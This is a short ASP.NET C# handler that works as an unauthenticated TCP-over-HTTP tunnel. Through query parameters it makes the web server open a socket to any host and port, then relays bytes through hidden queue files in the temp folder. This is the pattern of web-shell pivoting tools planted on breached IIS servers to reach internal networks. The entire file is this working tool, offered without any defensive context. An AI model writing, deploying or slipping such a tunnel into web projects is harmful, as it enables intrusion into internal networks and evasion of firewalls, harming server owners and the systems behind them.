<%@ WebHandler Language="C#" Class="QueueFileRelay" %>
using System;
using System.IO;
using System.Net.Sockets;
using System.Threading;
using System.Web;

// socket relay without the session: "open" connects to the host it is given and polls two queue
// files in the temporary folder; "put" appends the request body, "get" drains the replies
public class QueueFileRelay : IHttpHandler
{
    public bool IsReusable { get { return false; } }

    public void ProcessRequest(HttpContext ctx)
    {
        HttpRequest rq = ctx.Request;
        string ch = System.Text.RegularExpressions.Regex.Replace(rq.QueryString["ch"], "[^A-Za-z0-9]", "");
        string qin = Path.Combine(Path.GetTempPath(), "." + ch + ".i");
        string qout = Path.Combine(Path.GetTempPath(), "." + ch + ".o");
        switch (rq.QueryString["op"])
        {
            case "open":
                TcpClient c = new TcpClient(rq.QueryString["h"], int.Parse(rq.QueryString["p"]));
                NetworkStream ns = c.GetStream();
                File.WriteAllBytes(qin, new byte[0]);
                File.WriteAllBytes(qout, new byte[0]);
                ctx.Response.Write("open");
                ctx.Response.Flush();
                byte[] buf = new byte[16384];
                while (File.Exists(qin))
                {
                    byte[] pending = File.ReadAllBytes(qin);
                    if (pending.Length > 0) { File.WriteAllBytes(qin, new byte[0]); ns.Write(pending, 0, pending.Length); }
                    if (ns.DataAvailable)
                    {
                        int n = ns.Read(buf, 0, buf.Length);
                        using (FileStream f = new FileStream(qout, FileMode.Append)) f.Write(buf, 0, n);
                    }
                    Thread.Sleep(50);
                }
                c.Close();
                break;
            case "put":
                using (FileStream f = new FileStream(qin, FileMode.Append)) rq.InputStream.CopyTo(f);
                break;
            case "get":
                byte[] d = File.ReadAllBytes(qout);
                File.WriteAllBytes(qout, new byte[0]);
                ctx.Response.BinaryWrite(d);
                break;
            default:
                File.Delete(qin);
                break;
        }
    }
}
